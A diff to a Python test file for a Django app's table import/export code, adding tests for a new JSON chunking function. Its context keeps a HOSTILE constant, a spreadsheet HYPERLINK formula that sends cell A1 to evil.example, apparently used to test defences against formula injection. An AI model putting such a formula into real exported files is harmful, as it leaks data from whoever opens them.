@@ -2,14 +2,16 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
+import json
 from decimal import Decimal
 
 import pytest
 from django.utils import translation
 from openpyxl import load_workbook
 
-from hyeopchi.core.tabular import Limits, TableError, read_table, write_csv, write_xlsx
+from hyeopchi.core.tabular import Limits, TableError, json_chunks, read_table, write_csv, write_xlsx
 from tests.support.spreadsheets import inflating, one_far_cell
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
@@ -97,3 +99,18 @@ def test_the_settings_limits_override_the_defaults(settings):
     settings.IMPORT_LIMITS = {"rows": 1}
 
     assert refusal(b"a\n1\n2\n", "t.csv") == "파일이 1행을 넘습니다."
+
+
+def test_json_is_an_array_of_objects_keyed_by_the_given_keys():
+    rows = [[1, "가로등 설치", dt.date(2024, 3, 1), Decimal("12.50")], [2, None, None, Decimal(0)]]
+
+    data = b"".join(json_chunks(["id", "title", "end", "progress"], rows, rows_per_chunk=1))
+
+    assert data.decode("utf-8") == (
+        '[\n{"id": 1, "title": "가로등 설치", "end": "2024-03-01", "progress": "12.50"},\n'
+        '{"id": 2, "title": null, "end": null, "progress": "0"}\n]\n'
+    )
+
+
+def test_json_of_no_rows_is_an_empty_array():
+    assert json.loads(b"".join(json_chunks(["id"], []))) == []
